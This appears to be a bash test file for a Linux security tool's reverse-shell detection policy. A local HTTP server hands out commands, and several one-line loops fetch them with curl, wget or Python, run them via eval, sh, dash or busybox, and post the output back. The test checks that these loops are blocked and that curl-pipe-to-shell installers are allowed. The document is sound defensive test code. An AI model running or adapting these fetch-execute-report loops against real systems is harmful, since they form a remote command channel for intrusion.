# SPDX-License-Identifier: GPL-2.0-only
# Who has another program fetch what to run, by HTTP, and sends the answer later.
# shellcheck shell=bash disable=SC2016,SC2034,SC2154

cg=$(cgroup free)
url=http://127.0.0.1:4332/

# Says what to run to who asks, and prints what it is sent.
cat >teller.py <<'END2'
import http.server, sys
class Teller(http.server.BaseHTTPRequestHandler):
    def answer(self, text):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(text)
    def do_GET(self):
        self.answer(open("tell").read().encode())
    def do_POST(self):
        print(self.rfile.read(int(self.headers["content-length"])).decode(), flush=True)
        self.answer(b"ok\n")
    def log_message(self, *_):
        pass
http.server.HTTPServer(("127.0.0.1", 4332), Teller).serve_forever()
END2
/usr/bin/python3 teller.py >sent.out 2>teller.err &
poll nc -z 127.0.0.1 4332

# fetched TEXT PROGRAM...: what is sent and said when TEXT is what is fetched
fetched() {
	echo "$1" >tell
	: >sent.out
	timeout 60 /opt/csec/bin/cgexec "$cg" "${@:2}" </dev/null >fetched.out 2>&1
	cat sent.out fetched.out
}
get="curl -s $url" send="curl -s -d"
command='expr 40000 + 242'
declare -A loops=(
	[evaluated]="c=\$($get); $send \"\$(eval \"\$c\")\" $url"
	[executed]="c=\$($get); o=\$(sh -c \"\$c\" 2>&1); $send \"\$o\" $url"
	[words]="o=\$(\$($get)); $send \"\$o\" $url"
	[piped]="o=\$($get | sh); $send \"\$o\" $url"
	[passed_on]="$get | sh | curl -s -d @- $url"
	[filtered]="c=\$($get | tail -n 1); o=\$(eval \"\$c\" | tr a b); $send \"\$o\" $url"
	[not_for_ever]="c=\$(timeout 20 $get); o=\$(eval \"\$c\"); $send \"\$o\" $url"
	[late]="c=\$($get); o=\$(timeout 20 bash -c \"\$c; :\"); $send \"\$o\" $url"
)
by_python="import subprocess as s
c = s.check_output(['curl', '-s', '$url'], text=True)
s.run(['curl', '-s', '-d', s.getoutput(c), '$url'])"
# One file is all of these.
mkdir box
for name in sh wget tee expr cat; do ln -s "$(type -P busybox)" box/$name; done
boxed="export PATH=$dir/box; wget -q -O - $url"
by_box="$boxed >c; o=\$(eval \"\$(cat c)\"); wget -q -O - --post-data \"\$o\" $url"
for how in "${!loops[@]}"; do
	contains "without a policy: $how" 40242 fetched "$command" /bin/bash -c "${loops[$how]}"
done
contains 'without a policy: dash' 40242 fetched "$command" /bin/dash -c "${loops[evaluated]}"
contains 'without a policy: busybox' 40242 fetched "$command" box/sh -c "$by_box"
contains 'without a policy: python' 40242 fetched "$command" /usr/bin/python3 -c "$by_python"

policy=fetched
cg=$(cgroup deny)
govern fetched "$cg" <<'END2' || fail 'a policy is pushed'
shells: {reverse: deny, bind: deny, connect: deny}
END2
before=$(counter fetched reverse_shell)
is_refused() {
	lacks "$1: is stopped" 40242 fetched "$command" "${@:2}"
	at_least "$1: is counted" $((before + 1)) "$(counter fetched reverse_shell)"
	before=$(counter fetched reverse_shell)
}
for how in "${!loops[@]}"; do
	is_refused "$how" /bin/bash -c "${loops[$how]}"
done
equals 'who had it fetched is named' bash "$(field target_comm)"
equals 'and the peer' 4332 "$(field peer_port)"
is_refused dash /bin/dash -c "${loops[evaluated]}"
is_refused busybox box/sh -c "$by_box"
is_refused python /usr/bin/python3 -c "$by_python"

# What looks alike
contains 'an installer, by a pipe' 40242 fetched "$command" /bin/bash -c "$get | sh"
contains 'and its output through a program' 40242 fetched "$command" /bin/bash -c "$get | sh | cat"
contains 'and by busybox' 40242 fetched "$command" box/sh -c "$boxed | sh | tee log"
contains 'one that is evaluated' 40242 fetched "$command" /bin/bash -c "eval \"\$($get)\""
contains 'one of many lines, its output taken' 40242 fetched \
	$'set -e\ncd /tmp\nexpr 40000 + 242\nexpr 1 + 1\ntrue' /bin/bash -c "o=\$($get | sh); echo \"\$o\""
contains 'a value' 40242 fetched 40000 /bin/bash -c "v=\$($get); o=\$(expr \$v + 242); $send \"\$o\" $url"
contains 'a command of its own' 40242 fetched 'expr and more' \
	/bin/bash -c "v=\$($get); o=\$(expr 40000 + 242); $send \"\$o\" $url"
contains 'settings' 40242 fetched $'A=40000\nB=242' \
	/bin/bash -c "eval \"\$($get)\"; o=\$(expr \$A + \$B); $send \"\$o\" $url"
equals 'and nothing of it is refused' "$before" "$(counter fetched reverse_shell)"
accounts

cg=$(cgroup exempt)
govern fetched "$cg" <<'END2' || fail 'a policy is pushed'
shells: {reverse: deny, bind: deny, connect: deny, exempt: [/usr/bin/bash]}
END2
contains 'exempt: who has it fetched' 40242 fetched "$command" /bin/bash -c "${loops[evaluated]}"
